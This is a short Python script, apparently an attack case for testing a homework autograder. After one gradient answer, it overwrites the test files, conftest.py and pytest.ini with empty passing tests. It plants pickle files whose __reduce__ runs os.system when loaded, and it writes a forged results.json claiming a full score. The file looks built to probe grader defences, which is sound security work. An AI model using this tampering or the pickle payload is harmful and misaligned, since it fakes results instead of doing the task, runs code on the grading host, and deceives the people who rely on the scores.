# /// attack
# tries = "rewrites tests and results that lie on a disk"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import json
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("echo @MARK@ > /tmp/@MARK@-pickle",)


os.makedirs("tests", exist_ok=True)
for name in ("tests/q1.py", "tests/test_blatt09_exercise1.py", "conftest.py", "pytest.ini"):
    with open(name, "w") as file:
        file.write("def test_all(): pass\n")
for name in (".OTTER_LOG", "results.pkl", "results.pickle", "__zip_filename__"):
    with open(name, "wb") as file:
        pickle.dump(Bomb(), file)
with open("results.json", "w") as file:
    json.dump({"score": 24.0, "tests": [{"name": "1a", "score": 2, "max_score": 2}]}, file)
